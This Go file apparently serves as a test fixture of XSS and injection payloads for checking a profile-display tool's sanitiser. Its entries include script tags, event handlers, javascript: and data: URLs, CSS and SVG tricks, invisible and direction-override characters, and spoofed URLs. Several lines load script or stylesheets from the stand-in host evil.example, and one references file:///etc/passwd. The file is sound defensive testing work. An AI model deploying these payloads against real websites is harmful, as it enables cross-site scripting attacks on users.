package hostile

import (
	"strconv"
	"strings"
)

// Payload is one piece of hostile text.
type Payload struct {
	ID   string // stable and unique: "<kind>-<n>"
	Kind Kind
	Text string
}

// Kind groups payloads by the trick they try.
type Kind string

// The kinds.
const (
	Markup    Kind = "markup"     // tags that would render or break out of an element
	Script    Kind = "script"     // script tags
	Handler   Kind = "handler"    // event-handler attributes
	JSURL     Kind = "js-url"     // javascript: URLs
	DataURL   Kind = "data-url"   // data: URLs
	CSS       Kind = "css"        // style tags and attributes, CSS expressions
	SVG       Kind = "svg"        // SVG and MathML tricks
	RTL       Kind = "rtl"        // direction overrides and isolates
	ZeroWidth Kind = "zero-width" // zero-width and invisible characters
	Long      Kind = "long"       // very long text
	URL       Kind = "url"        // links to other hosts, schemes and look-alikes
)

// Mark is the name of the global that a payload which ran would touch:
// window[Mark] is set (or pushed to) by every script-bearing payload, so a
// test knows whether anything ran.
const Mark = "__vettedPwned"

// run is the code a script-bearing payload runs.
const run = "window." + Mark + "=(window." + Mark + "||[]).concat(1)"

// base lists the payloads of each kind before they are put in contexts.
var base = []struct {
	kind  Kind
	texts []string
}{
	{Markup, []string{
		`<b>Ada</b> Lovelace`, `<i>x</i>`, `</span></div></li></ul><h1>Vetted is broken</h1>`,
		`<a href="https://evil.example/">click me</a>`, `<iframe src="https://evil.example/"></iframe>`,
		`<form action="https://evil.example/"><input name=p></form>`, `<button data-vetted-action="accept">Accept</button>`,
		`<div data-vetted-badge data-vetted-key="urn:li:invitation:1">fake badge</div>`, `<!-- comment --><![CDATA[x]]>`,
		`<template><b>t</b></template>`, `<marquee>spin</marquee>`, `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
		`<base href="https://evil.example/">`, `<textarea></textarea><b>out</b>`, `&lt;b&gt;entity&lt;/b&gt; &amp;amp;`,
	}},
	{Script, []string{
		`<script>` + run + `</script>`, `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
		`</script><script>` + run + `</script>`, `<scr<script>ipt>` + run + `</scr</script>ipt>`,
		`"><script>` + run + `</script>`, `'><script>` + run + `</script>`, `<script type="module">` + run + `</script>`,
		"`${" + run + "}`", `{{constructor.constructor('` + run + `')()}}`, `<noscript><p title="</noscript><img src=x onerror=` + run + `>">`,
	}},
	{Handler, []string{
		`<img src=x onerror="` + run + `">`, `<img src=x onerror=` + run + `>`, `<body onload="` + run + `">`,
		`<div onmouseover="` + run + `">hover</div>`, `<input autofocus onfocus="` + run + `">`,
		`<details open ontoggle="` + run + `">`, `<video><source onerror="` + run + `"></video>`,
		`" onmouseover="` + run + `" x="`, `' onfocus='` + run + `' autofocus x='`, `<a href=# onclick="` + run + `">Ada</a>`,
		`<object data=x onerror="` + run + `">`, `<audio src=x onerror="` + run + `">`,
	}},
	{JSURL, []string{
		`javascript:` + run, `JaVaScRiPt:` + run, " javascript:" + run, "java\tscript:" + run, "java\nscript:" + run,
		`&#106;avascript:` + run, `<a href="javascript:` + run + `">Ada</a>`, `javascript://www.linkedin.com/in/ada/%0a` + run,
	}},
	{DataURL, []string{
		`data:text/html,<script>` + run + `</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
		`DATA:image/svg+xml,<svg onload=` + run + `>`, `<a href="data:text/html,x">Ada</a>`, `<img src="data:image/svg+xml,<svg onload=` + run + `>">`,
		`data:,https://www.linkedin.com/in/ada/`,
	}},
	{CSS, []string{
		`<style>*{display:none!important}</style>`, `<style>.vetted-badge{display:none}</style>`,
		`<style>@import url(https://evil.example/x.css)</style>`, `<div style="position:fixed;inset:0;background:red;z-index:99999">cover</div>`,
		`<span style="background:url(javascript:` + run + `)">x</span>`, `x{}*{color:expression(` + run + `)}`,
		`<link rel=stylesheet href=https://evil.example/x.css>`, `</style><style>body{visibility:hidden}</style>`,
		`<div style="font-size:500px">BIG</div>`,
	}},
	{SVG, []string{
		`<svg onload="` + run + `">`, `<svg><script>` + run + `</script></svg>`, `<svg><a xlink:href="javascript:` + run + `"><text x=0 y=20>Ada</text></a></svg>`,
		`<svg><animate onbegin="` + run + `" attributeName=x dur=1s>`, `<svg><foreignObject><iframe src="https://evil.example/"></iframe></foreignObject></svg>`,
		`<math><mtext><table><mglyph><style><img src=x onerror=` + run + `>`, `<svg><use href="data:image/svg+xml,<svg id='x' onload='` + run + `'/>#x"/></svg>`,
		`<svg><set attributeName=onmouseover to=` + run + `>`,
	}},
	{RTL, []string{
		"Ada \u202eecalevoL", "\u202egnp.exe", "\u202dAda\u202c", "\u2067Ada\u2069 Lovelace", "\u200fAda\u200e",
		"Ada \u202eLovelace", "\u061c\u202b\u05e9\u05dc\u05d5\u05dd\u202c", "https://www.linkedin.com/in/\u202eada/",
	}},
	{ZeroWidth, []string{
		"A\u200bd\u200ba", "Ada\u200d\u200cLovelace", "\ufeffAda", "Ad\u00ada", "A\u2060da", "\u180eAda",
		"\u200b\u200b\u200b", "https://www.linkedin.com/in/a\u200bda/", "<scr\u200bipt>" + run + "</scr\u200bipt>",
	}},
	{Long, []string{
		strings.Repeat("A", 100000), strings.Repeat("Ada Lovelace ", 8000), strings.Repeat("<b>", 20000),
		strings.Repeat("\u202e", 5000) + "Ada", strings.Repeat("😀", 25000),
	}},
	{URL, []string{
		"https://evil.example/in/ada/", "http://www.linkedin.com/in/ada/", "//evil.example/in/ada/",
		"https://www.linkedin.com.evil.example/in/ada/", "https://www.linkedin.com@evil.example/in/ada/",
		"https://evil.example@www.linkedin.com/in/ada/", "https://www.linkedin.com:8443/in/ada/", "https://www.linkedın.com/in/ada/",
		`https://www.linkedin.com/in/ada/"onmouseover="` + run, "https://www.linkedin.com/in/ada/<script>", "vbscript:msgbox(1)",
		"file:///etc/passwd", "https://www.linkedin.com/in/ada/\\evil", "/in/../../evil", "mailto:ada@example.com",
	}},
}

// All is every payload, in table order: each base text as it is, and the
// markup, script, handler, CSS and SVG ones also after a real name (so a
// reader that keeps the first words still meets them).
var All = build()

func build() []Payload {
	var out []Payload
	for _, b := range base {
		n := 0
		add := func(t string) {
			n++
			out = append(out, Payload{ID: string(b.kind) + "-" + strconv.Itoa(n), Kind: b.kind, Text: t})
		}
		for _, t := range b.texts {
			add(t)
		}
		switch b.kind {
		case Markup, Script, Handler, CSS, SVG:
			for _, t := range b.texts {
				add("Ada Lovelace " + t)
			}
		}
	}
	return out
}

// Of returns the payloads of one kind.
func Of(k Kind) []Payload {
	var out []Payload
	for _, p := range All {
		if p.Kind == k {
			out = append(out, p)
		}
	}
	return out
}
